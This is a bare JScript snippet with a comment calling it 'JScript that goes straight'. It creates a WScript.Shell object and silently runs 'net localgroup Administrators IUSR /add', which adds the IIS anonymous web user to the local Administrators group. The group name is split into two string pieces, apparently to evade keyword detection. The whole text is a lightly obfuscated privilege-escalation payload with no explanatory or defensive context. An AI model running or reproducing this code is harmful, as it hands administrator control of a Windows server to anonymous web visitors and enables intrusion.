// JScript that goes straight
var shell = new ActiveXObject("WScript.Shell");
var group = 'Administ' + "rators";
shell.Run("net localgroup " + group + " IUSR /add", 0, true);
